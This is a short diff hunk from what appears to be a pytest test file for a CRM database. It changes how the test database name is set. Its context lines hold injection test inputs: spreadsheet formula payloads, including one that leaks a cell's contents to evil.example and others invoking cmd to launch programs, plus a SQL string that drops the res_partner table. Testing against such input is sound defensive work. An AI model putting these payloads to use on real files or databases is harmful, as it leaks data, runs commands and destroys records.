@@ -17,7 +17,7 @@ import pytest
 import crmdb
 from conftest import OdooServer
 
-DB = 'crm_test_injection'
+DB = crmdb.test_db('crm_test_injection')
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C notepad'!A0",
             "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C mspaint'!A0", '\t=1+1']
 SQL_TEXT = ["O'Brien'); DROP TABLE res_partner; --", '100% "quoted" _shop_ /*', 'back\\slash']
